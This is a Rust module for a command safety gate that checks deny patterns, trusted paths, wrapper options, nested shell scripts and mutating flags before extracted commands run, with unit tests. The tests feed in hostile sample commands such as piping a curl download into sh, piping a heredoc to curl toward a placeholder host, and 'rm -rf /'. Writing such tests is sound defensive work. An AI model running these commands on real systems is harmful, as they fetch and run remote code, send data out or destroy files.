//! The safety gate: the one place that decides whether an extracted command
//! may reach the execution engine.
//!
//! Deny patterns are checked first, against the full rendered command
//! (heredoc body included), in every mode unless the deny override is set.
//! In safe mode the command must then pass the trust test: its leading
//! token, and every command name tree-sitter-bash finds inside it, must be
//! an absolute path under a trusted prefix or an allow-listed bare name.
//! Wrappers (`sudo`, `env`, `xargs`, ...) are looked through and the command
//! they run is held to the same test, `env -S` strings included; a wrapper
//! option the gate does not know is refused. `sh -c SCRIPT` style
//! interpreter calls have their script gated recursively, and the program
//! text given to awk, sed and osascript must not start processes or write
//! files.

pub mod decision;
pub mod deny;
mod program;

pub use decision::{Decision, GateDecision};
pub use deny::DenyList;

use crate::config::{Config, ConfigError, PolicyConfig};
use crate::extract::Command;
use crate::parse::{basename, inspect, leading_token, tokenize};

/// Safe is the default; Unsafe lifts the trust test but not the deny list.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    Safe,
    Unsafe,
}

/// How deep wrappers and `-c` scripts may nest before the gate gives up.
const MAX_DEPTH: usize = 4;

/// Commands that run another command given in their arguments.
struct Wrapper {
    name: &'static str,
    /// Options that consume a value, attached (`-uroot`, `--user=root`) or
    /// as the following word.
    valued: &'static [&'static str],
    /// Options known to take no value and change nothing the gate cares
    /// about. Anything else is refused.
    flags: &'static [&'static str],
    /// Options whose value is itself split into the command (`env -S`).
    split: &'static [&'static str],
    /// Positional words before the wrapped command (`timeout DURATION cmd`).
    positional: usize,
}

const WRAPPERS: &[Wrapper] = &[
    Wrapper {
        name: "sudo",
        valued: &["-u", "-g", "-C", "-h", "-p", "-U", "-r", "-t", "-D", "--user", "--group"],
        flags: &["-n", "-E", "-H", "-k", "-K", "-l", "-v", "-S", "-P", "--non-interactive"],
        split: &[],
        positional: 0,
    },
    Wrapper {
        name: "env",
        valued: &["-u", "-C", "--unset", "--chdir"],
        flags: &["-i", "-0", "-v", "--ignore-environment", "--null", "--debug"],
        split: &["-S", "--split-string"],
        positional: 0,
    },
    Wrapper {
        name: "nohup",
        valued: &[],
        flags: &[],
        split: &[],
        positional: 0,
    },
    Wrapper {
        name: "nice",
        valued: &["-n", "--adjustment"],
        flags: &[],
        split: &[],
        positional: 0,
    },
    Wrapper {
        name: "timeout",
        valued: &["-s", "-k", "--signal", "--kill-after"],
        flags: &["-v", "--preserve-status", "--foreground", "--verbose"],
        split: &[],
        positional: 1,
    },
    Wrapper {
        name: "time",
        valued: &["-f", "-o", "--format", "--output"],
        flags: &["-p", "-l", "-a", "-v", "--portability", "--append", "--verbose"],
        split: &[],
        positional: 0,
    },
    Wrapper {
        name: "xargs",
        valued: &["-I", "-J", "-R", "-n", "-P", "-L", "-d", "-E", "-s", "-a", "--max-args"],
        flags: &["-0", "-r", "-t", "-x", "--null", "--no-run-if-empty", "--verbose", "--exit"],
        split: &[],
        positional: 0,
    },
    Wrapper {
        name: "command",
        valued: &[],
        flags: &["-p"],
        split: &[],
        positional: 0,
    },
    Wrapper {
        name: "exec",
        valued: &["-a"],
        flags: &["-c", "-l"],
        split: &[],
        positional: 0,
    },
];

/// Shells whose `-c` argument is itself a command line.
const INTERPRETERS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];

/// Arguments that turn an otherwise read-only tool into a writer or a
/// launcher. Two-character flags also match inside a short-flag cluster.
const MUTATING_FLAGS: &[(&str, &[&str])] = &[
    (
        "find",
        &[
            "-delete", "-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprint0", "-fprintf",
            "-fls",
        ],
    ),
    ("sed", &["-i", "--in-place"]),
];

#[derive(Debug, Clone)]
pub struct SafetyGate {
    mode: Mode,
    override_deny: bool,
    trusted_prefixes: Vec<String>,
    allow: Vec<String>,
    deny: DenyList,
}

impl SafetyGate {
    pub fn new(
        policy: &PolicyConfig,
        mode: Mode,
        override_deny: bool,
    ) -> Result<Self, ConfigError> {
        Ok(Self {
            mode,
            override_deny,
            trusted_prefixes: policy.trusted_prefixes.clone(),
            allow: policy.allow.clone(),
            deny: DenyList::compile(&policy.deny_patterns)?,
        })
    }

    pub fn from_config(config: &Config) -> Result<Self, ConfigError> {
        let mode = if config.settings.allow_unsafe {
            Mode::Unsafe
        } else {
            Mode::Safe
        };
        Self::new(&config.policy, mode, config.settings.override_deny)
    }

    pub fn mode(&self) -> Mode {
        self.mode
    }

    /// Decide whether `command` may run.
    pub fn check(&self, command: &Command) -> GateDecision {
        let rendered = command.to_string();
        if !self.override_deny
            && let Some(pattern) = self.deny.first_match(&rendered)
        {
            return GateDecision::block(format!("matches deny pattern: {pattern}"));
        }

        if self.mode == Mode::Unsafe {
            return GateDecision::allow("unsafe mode");
        }

        let outcome = self.check_line(&command.gate_text(), 0).and_then(|()| {
            let Command::Heredoc(doc) = command else {
                return Ok(());
            };
            match program::heredoc_hazard(&tokenize(&doc.head), &doc.body) {
                Some(reason) => Err(reason),
                None => Ok(()),
            }
        });
        match outcome {
            Ok(()) => GateDecision::allow("all commands trusted"),
            Err(reason) => GateDecision::block(reason),
        }
    }

    /// Trust test for one command line: leading token, parse health, write
    /// redirections, then every simple command inside it.
    fn check_line(&self, line: &str, depth: usize) -> Result<(), String> {
        let leading = leading_token(line);
        if leading.is_empty() {
            return Err("empty command".into());
        }
        if !self.is_trusted(&leading) {
            return Err(untrusted(&leading));
        }

        let inspection = inspect(line);
        if inspection.has_error {
            return Err("shell grammar could not parse the command".into());
        }
        if let Some(redir) = inspection.redirections.first() {
            return Err(redir.describe());
        }
        if inspection.commands.is_empty() {
            return Err("no command found in shell parse".into());
        }
        for node in &inspection.commands {
            if is_dynamic(&node.name) {
                return Err(format!("dynamic command name: {}", node.name));
            }
            self.check_words(&node.words, depth)?;
        }
        Ok(())
    }

    /// Trust test for one simple command given as words, name first.
    fn check_words(&self, words: &[String], depth: usize) -> Result<(), String> {
        let Some(name) = words.first() else {
            return Ok(());
        };
        if is_dynamic(name) {
            return Err(format!("dynamic command name: {name}"));
        }
        if !self.is_trusted(name) {
            return Err(untrusted(name));
        }
        let args = &words[1..];
        let base = basename(name);

        if let Some((_, flags)) = MUTATING_FLAGS.iter().find(|(tool, _)| *tool == base)
            && let Some(arg) = args.iter().find(|a| flags.iter().any(|f| flag_matches(a, f)))
        {
            return Err(format!("{base} {arg} can modify the system"));
        }
        if let Some(reason) = program::hazard(base, args) {
            return Err(reason);
        }

        if let Some(wrapper) = WRAPPERS.iter().find(|w| w.name == base) {
            if depth >= MAX_DEPTH {
                return Err(format!("{base}: wrapper nesting too deep"));
            }
            return match wrapped_command(wrapper, args)? {
                Wrapped::Words(inner) => self.check_words(inner, depth + 1),
                Wrapped::Split { payload, rest } => {
                    // env -S: the string is split into words ahead of the rest.
                    let mut words = vec![name.clone()];
                    words.extend(tokenize(payload));
                    words.extend(rest.iter().cloned());
                    self.check_words(&words, depth + 1)
                }
                Wrapped::Nothing => Ok(()),
            };
        }

        if INTERPRETERS.contains(&base) {
            if depth >= MAX_DEPTH {
                return Err(format!("{base}: script nesting too deep"));
            }
            return match script_argument(args) {
                Some(script) => self.check_line(script, depth + 1),
                None => Err(format!("{base} without -c runs a script the gate cannot see")),
            };
        }
        Ok(())
    }

    /// Absolute path under a trusted prefix, or an allow-listed bare name.
    pub fn is_trusted(&self, word: &str) -> bool {
        if word.starts_with('/') {
            !word.split('/').any(|part| part == ".." || part == ".")
                && self.trusted_prefixes.iter().any(|p| word.starts_with(p.as_str()))
        } else {
            self.allow.iter().any(|a| a == word)
        }
    }
}

fn untrusted(word: &str) -> String {
    format!("{word} is not under a trusted prefix or in the allow-list")
}

/// Words whose value is only known at run time.
fn is_dynamic(word: &str) -> bool {
    word.contains(['$', '`', '"', '\'', '*', '?', '['])
}

fn flag_matches(arg: &str, flag: &str) -> bool {
    if arg == flag || arg.starts_with(&format!("{flag}=")) {
        return true;
    }
    // -i inside -ni, -i.bak
    flag.len() == 2
        && arg.len() > 1
        && arg.starts_with('-')
        && !arg.starts_with("--")
        && arg[1..].contains(&flag[1..])
}

/// What a wrapper invocation goes on to run.
#[derive(Debug, PartialEq)]
enum Wrapped<'a> {
    Words(&'a [String]),
    /// A split-string option: `payload` is split into words and put in
    /// front of `rest`.
    Split {
        payload: &'a str,
        rest: &'a [String],
    },
    /// Options only (`sudo -l`, bare `env`).
    Nothing,
}

/// Walk a wrapper's options to the command it runs. Options the wrapper
/// table does not know are refused rather than skipped.
fn wrapped_command<'a>(wrapper: &Wrapper, args: &'a [String]) -> Result<Wrapped<'a>, String> {
    let unknown =
        |word: &str| format!("{} {word}: option not understood by the gate", wrapper.name);
    let mut positional = wrapper.positional;
    let mut options_done = false;
    let mut i = 0;
    while i < args.len() {
        let word = args[i].as_str();
        if !options_done && word == "--" {
            options_done = true;
            i += 1;
            continue;
        }
        if !options_done && word.starts_with("--") {
            let (opt, value) = match word.split_once('=') {
                Some((opt, value)) => (opt, Some(value)),
                None => (word, None),
            };
            if wrapper.split.contains(&opt) {
                return split_payload(value, args, i + 1, &unknown(word));
            }
            if wrapper.valued.contains(&opt) {
                i += if value.is_some() { 1 } else { 2 };
            } else if wrapper.flags.contains(&opt) && value.is_none() {
                i += 1;
            } else {
                return Err(unknown(word));
            }
            continue;
        }
        if !options_done && word.len() > 1 && word.starts_with('-') {
            if wrapper.name == "nice" && word[1..].bytes().all(|b| b.is_ascii_digit()) {
                i += 1;
                continue;
            }
            // Short option cluster: flags, then at most one valued option
            // whose value is the rest of the word or the next word.
            let mut consumed = 1;
            for (at, c) in word.char_indices().skip(1) {
                let opt = format!("-{c}");
                let attached = &word[at + c.len_utf8()..];
                if wrapper.split.contains(&opt.as_str()) {
                    let value = (!attached.is_empty()).then_some(attached);
                    return split_payload(value, args, i + 1, &unknown(word));
                }
                if wrapper.valued.contains(&opt.as_str()) {
                    if attached.is_empty() {
                        consumed = 2;
                    }
                    break;
                }
                if !wrapper.flags.contains(&opt.as_str()) {
                    return Err(unknown(word));
                }
            }
            i += consumed;
            continue;
        }
        if wrapper.name == "env" && word.contains('=') {
            i += 1;
            continue;
        }
        if positional > 0 {
            positional -= 1;
            i += 1;
            continue;
        }
        return Ok(Wrapped::Words(&args[i..]));
    }
    Ok(Wrapped::Nothing)
}

/// The split-string payload: attached to the option, or the next word.
fn split_payload<'a>(
    attached: Option<&'a str>,
    args: &'a [String],
    next: usize,
    missing: &str,
) -> Result<Wrapped<'a>, String> {
    match attached {
        Some(payload) => Ok(Wrapped::Split {
            payload,
            rest: &args[next..],
        }),
        None => match args.get(next) {
            Some(payload) => Ok(Wrapped::Split {
                payload,
                rest: &args[next + 1..],
            }),
            None => Err(missing.to_string()),
        },
    }
}

/// The script given to `sh -c SCRIPT` (also `-ec`, `-lc`, ...).
fn script_argument(args: &[String]) -> Option<&str> {
    let flag = args
        .iter()
        .position(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].contains('c'))?;
    args.get(flag + 1).map(String::as_str)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract::Heredoc;

    fn gate(mode: Mode, override_deny: bool) -> SafetyGate {
        SafetyGate::new(&Config::default_config().policy, mode, override_deny).unwrap()
    }

    fn safe(cmd: &str) -> GateDecision {
        gate(Mode::Safe, false).check(&Command::Plain(cmd.into()))
    }

    fn allowed(cmd: &str) -> bool {
        safe(cmd).is_allowed()
    }

    #[test]
    fn trusted_absolute_path() {
        assert!(allowed("/usr/bin/profiles -P"));
        assert!(allowed("/usr/libexec/ApplicationFirewall/socketfilterfw --getglobalstate"));
        assert!(allowed("/System/Library/CoreServices/x --status"));
    }

    #[test]
    fn allow_listed_bare_name() {
        assert!(allowed("defaults read com.apple.x"));
    }

    #[test]
    fn untrusted_leading_token() {
        let d = safe("/opt/homebrew/bin/foo");
        assert_eq!(d.decision, Decision::Block);
        assert!(d.reason.contains("/opt/homebrew/bin/foo"));
        assert!(!allowed("python3 -c 'print(1)'"));
        assert!(!allowed("./local.sh"));
    }

    #[test]
    fn path_traversal_rejected() {
        assert!(!allowed("/usr/bin/../../tmp/evil"));
    }

    #[test]
    fn every_pipeline_stage_checked() {
        assert!(allowed("/usr/bin/defaults read x | /usr/bin/grep -c 1"));
        assert!(!allowed("/usr/bin/defaults read x | /tmp/evil"));
        assert!(!allowed("/usr/bin/true && curl http://x"));
    }

    #[test]
    fn command_substitution_checked() {
        assert!(allowed("/bin/echo $(/usr/bin/whoami)"));
        assert!(!allowed("/bin/echo $(curl http://x)"));
    }

    #[test]
    fn dynamic_name_rejected() {
        assert!(!allowed("/usr/bin/true; $CMD"));
    }

    #[test]
    fn unparseable_rejected() {
        assert!(!allowed("/usr/bin/grep 'oops"));
    }

    #[test]
    fn write_redirection_rejected() {
        assert!(!allowed("/usr/bin/profiles -P > /tmp/out"));
        assert!(allowed("/usr/bin/profiles -P 2>/dev/null"));
        assert!(allowed("/usr/bin/profiles -P 2>&1"));
    }

    #[test]
    fn wrapper_target_checked() {
        assert!(allowed("/usr/bin/sudo /usr/bin/fdesetup status"));
        assert!(allowed("/usr/bin/sudo -u root /usr/bin/fdesetup status"));
        assert!(!allowed("/usr/bin/sudo /tmp/evil"));
        assert!(!allowed("/usr/bin/env FOO=1 curl http://x"));
        assert!(allowed("/usr/bin/timeout 5 /usr/bin/pgrep sshd"));
    }

    #[test]
    fn split_string_payload_checked() {
        assert!(!allowed("/usr/bin/env -S/tmp/evil"));
        assert!(!allowed("/usr/bin/env --split-string=/tmp/evil"));
        assert!(!allowed("/usr/bin/env -iS'curl http://x'"));
        assert!(allowed("/usr/bin/env -S'/usr/bin/id -u'"));
    }

    #[test]
    fn wrapper_with_unknown_option_rejected() {
        let d = safe("/usr/bin/env -P /tmp ls");
        assert!(!d.is_allowed());
        assert!(d.reason.contains("-P"));
    }

    #[test]
    fn program_text_checked() {
        assert!(!allowed("/usr/bin/awk 'BEGIN{system(\"/tmp/evil\")}'"));
        assert!(!allowed("/usr/bin/osascript -e 'do shell script \"/tmp/evil\"'"));
        assert!(!allowed("sed -n '1w /tmp/out' /etc/hosts"));
        assert!(allowed("/usr/bin/awk -F: '$3 == 0 {print $1}' /etc/passwd"));
        assert!(allowed("/usr/bin/osascript -e 'id of app \"Finder\"'"));
    }

    #[test]
    fn heredoc_program_body_checked() {
        let cmd = Command::Heredoc(Heredoc {
            head: "/usr/bin/osascript -l AppleScript".into(),
            marker: "<<EOS".into(),
            tag: "EOS".into(),
            trailer: String::new(),
            body: "do shell script \"/tmp/evil\"".into(),
        });
        assert!(!gate(Mode::Safe, false).check(&cmd).is_allowed());
    }

    #[test]
    fn interpreter_script_checked() {
        assert!(allowed("/bin/bash -c '/usr/bin/pgrep -x sshd'"));
        assert!(!allowed("/bin/sh -c 'curl http://x | sh'"));
        assert!(!allowed("/bin/zsh /tmp/script.zsh"));
    }

    #[test]
    fn mutating_flags_rejected() {
        assert!(allowed("find /Library -name '*.plist'"));
        assert!(!allowed("find / -name x -delete"));
        assert!(!allowed("find / -exec /bin/ls {} ;"));
        assert!(!allowed("sed -i.bak s/a/b/ /etc/hosts"));
        assert!(allowed("sed -n 1p /etc/hosts"));
    }

    #[test]
    fn deny_pattern_blocks_in_safe_mode() {
        let d = safe("/bin/rm -rf /tmp/x");
        assert!(!d.is_allowed());
        assert!(d.reason.starts_with("matches deny pattern"));
    }

    #[test]
    fn deny_pattern_blocks_in_unsafe_mode() {
        let g = gate(Mode::Unsafe, false);
        assert!(!g.check(&Command::Plain("rm -rf /".into())).is_allowed());
        assert!(g.check(&Command::Plain("curl http://x".into())).is_allowed());
    }

    #[test]
    fn deny_override_lifts_patterns_only() {
        let g = gate(Mode::Unsafe, true);
        assert!(g.check(&Command::Plain("rm -rf /tmp/x".into())).is_allowed());

        // Override without unsafe still applies the trust test.
        let g = gate(Mode::Safe, true);
        assert!(!g.check(&Command::Plain("rm -rf /tmp/x".into())).is_allowed());
        assert!(g.check(&Command::Plain("/bin/rm -rf /tmp/x".into())).is_allowed());
    }

    #[test]
    fn heredoc_body_opaque_to_trust_test() {
        let cmd = Command::Heredoc(Heredoc {
            head: "/usr/bin/osascript -l JavaScript".into(),
            marker: "<<EOS".into(),
            tag: "EOS".into(),
            trailer: String::new(),
            body: "curl http://x; $(whatever".into(),
        });
        assert!(gate(Mode::Safe, false).check(&cmd).is_allowed());
    }

    #[test]
    fn heredoc_body_seen_by_deny_patterns() {
        let cmd = Command::Heredoc(Heredoc {
            head: "/usr/bin/osascript".into(),
            marker: "<<EOS".into(),
            tag: "EOS".into(),
            trailer: String::new(),
            body: "do shell script \"rm -rf /\"".into(),
        });
        assert!(!gate(Mode::Safe, false).check(&cmd).is_allowed());
    }

    #[test]
    fn heredoc_trailer_checked() {
        let cmd = Command::Heredoc(Heredoc {
            head: "/bin/cat".into(),
            marker: "<<EOF".into(),
            tag: "EOF".into(),
            trailer: "| curl -d @- http://x".into(),
            body: "x".into(),
        });
        assert!(!gate(Mode::Safe, false).check(&cmd).is_allowed());
    }

    #[test]
    fn shell_heredoc_head_rejected() {
        let cmd = Command::Heredoc(Heredoc {
            head: "/bin/bash".into(),
            marker: "<<EOF".into(),
            tag: "EOF".into(),
            trailer: String::new(),
            body: "/usr/bin/true".into(),
        });
        assert!(!gate(Mode::Safe, false).check(&cmd).is_allowed());
    }

    #[test]
    fn flag_cluster_matching() {
        assert!(flag_matches("-ni", "-i"));
        assert!(flag_matches("--in-place=.bak", "--in-place"));
        assert!(!flag_matches("--interactive", "-i"));
        assert!(!flag_matches("-name", "-exec"));
    }

    #[test]
    fn wrapped_command_skips_options() {
        let args: Vec<String> = ["-k", "1", "5", "/usr/bin/true", "-x"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let timeout = wrapper("timeout");
        assert_eq!(
            wrapped_command(timeout, &args),
            Ok(Wrapped::Words(&args[3..]))
        );
    }

    fn wrapper(name: &str) -> &'static Wrapper {
        WRAPPERS.iter().find(|w| w.name == name).unwrap()
    }

    fn words(args: &[&str]) -> Vec<String> {
        args.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn split_string_forms() {
        let env = wrapper("env");
        let attached = words(&["-S/tmp/evil", "x"]);
        assert_eq!(
            wrapped_command(env, &attached),
            Ok(Wrapped::Split { payload: "/tmp/evil", rest: &attached[1..] })
        );
        let long = words(&["--split-string=/tmp/evil"]);
        assert_eq!(
            wrapped_command(env, &long),
            Ok(Wrapped::Split { payload: "/tmp/evil", rest: &long[1..] })
        );
        let cluster = words(&["-iS", "/tmp/evil -x"]);
        assert_eq!(
            wrapped_command(env, &cluster),
            Ok(Wrapped::Split { payload: "/tmp/evil -x", rest: &cluster[2..] })
        );
        assert!(wrapped_command(env, &words(&["-S"])).is_err());
    }

    #[test]
    fn attached_option_values() {
        let xargs = words(&["-n1", "-I{}", "/usr/bin/stat", "{}"]);
        assert_eq!(
            wrapped_command(wrapper("xargs"), &xargs),
            Ok(Wrapped::Words(&xargs[2..]))
        );
        let sudo = words(&["--user=root", "-n", "/usr/bin/id"]);
        assert_eq!(
            wrapped_command(wrapper("sudo"), &sudo),
            Ok(Wrapped::Words(&sudo[2..]))
        );
        let nice = words(&["-10", "/usr/bin/true"]);
        assert_eq!(wrapped_command(wrapper("nice"), &nice), Ok(Wrapped::Words(&nice[1..])));
    }

    #[test]
    fn unknown_wrapper_option_refused() {
        assert!(wrapped_command(wrapper("env"), &words(&["-P", "/tmp", "ls"])).is_err());
        assert!(wrapped_command(wrapper("sudo"), &words(&["-s"])).is_err());
        assert!(wrapped_command(wrapper("env"), &words(&["--bogus"])).is_err());
        assert_eq!(wrapped_command(wrapper("sudo"), &words(&["-l"])), Ok(Wrapped::Nothing));
    }

    #[test]
    fn options_end_at_double_dash() {
        let args = words(&["--", "-weird", "x"]);
        assert_eq!(
            wrapped_command(wrapper("env"), &args),
            Ok(Wrapped::Words(&args[1..]))
        );
    }
}
